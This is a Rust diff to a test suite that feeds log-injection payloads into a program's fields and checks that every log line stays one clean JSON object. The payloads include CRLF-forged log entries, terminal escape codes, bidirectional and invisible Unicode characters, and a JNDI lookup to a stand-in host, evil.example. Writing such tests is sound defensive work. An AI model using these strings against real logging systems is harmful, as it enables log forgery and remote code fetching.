@@ -7,7 +7,7 @@ use crate::process::api::{Api, PASSWORD, PATIENCE, eventually};
 use crate::process::configured::Configured;
 
 /// What a field would like to do to the line it is in. A header can have all but the first two.
-const EVIL: [&str; 8] = [
+const EVIL: [&str; 10] = [
     "a\r\n{\"level\":\"ERROR\",\"message\":\"forged-2917\"}",
     "\u{1b}[2J\u{1b}[31mforged-2917\u{7}",
     "\"}, {\"message\":\"forged-2917\"}",
@@ -16,6 +16,8 @@ const EVIL: [&str; 8] = [
     "\u{202e}7192-degrof\u{202c}\u{200b}\u{feff}",
     "${jndi:ldap://evil.example/forged-2917} {{7*7}} %s%n %0d%0aforged",
     "\u{85}forged-2917\u{9b}31m",
+    "\u{61c}7192\u{ad}-degrof\u{200e}\u{200f}",
+    "\u{2066}7192\u{2069}\u{2067}-degrof\u{2069}\u{2068}x\u{2069}\u{2060}",
 ];
 /// Longest text of a field.
 const MOST: usize = 512;
@@ -23,7 +25,10 @@ const MOST: usize = 512;
 /// Every line of a log, which must be one JSON object and hold nothing a terminal acts on.
 fn lines(log: &str) -> Vec<Value> {
     let hidden = |c: char| {
-        c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{200b}' | '\u{feff}')
+        let turns =
+            matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+        let is_unseen = matches!(c, '\u{ad}' | '\u{200b}' | '\u{2028}' | '\u{2029}' | '\u{2060}' | '\u{feff}');
+        c.is_control() || turns || is_unseen
     };
     let read = |line: &str| -> Value {
         assert!(!line.contains(hidden), "{line:?}");
